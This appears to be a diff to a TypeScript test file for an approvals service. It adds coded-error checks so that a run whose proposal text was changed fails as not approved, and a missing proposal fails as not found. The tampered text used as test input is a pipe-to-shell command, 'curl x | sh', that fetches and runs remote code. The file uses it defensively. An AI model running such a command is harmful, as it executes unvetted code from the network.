@@ -13,6 +13,7 @@ import {
   sameProposal,
   startRun,
 } from '../../src/approvals/service.ts';
+import { type CodedError, ErrorCode } from '../../src/errors.ts';
 import { openIncidentByHand } from '../../src/incidents/incidents.ts';
 import type { Db } from '../../src/store/db.ts';
 import { migrate } from '../../src/store/migrate.ts';
@@ -90,9 +91,15 @@ for (const database of testDatabases()) {
       await approve(p, 'U0A');
       await assert.rejects(
         startRun(db, p.id, { ...p, text: 'ls evidence/; curl x | sh' }, later(2)),
-        /not the approved one/,
+        (error: CodedError) =>
+          error.code === ErrorCode.NotApproved && /not the approved one/.test(error.message),
       );
       assert.equal(await getRun(db, p.id), undefined);
+      // A proposal that is not there is not found, which is not the same as not approved.
+      await assert.rejects(
+        startRun(db, 987654, p, later(2)),
+        (error: CodedError) => error.code === ErrorCode.NotFound,
+      );
     });
 
     it('has the database refuse a run row without an approval of the same hash', async () => {
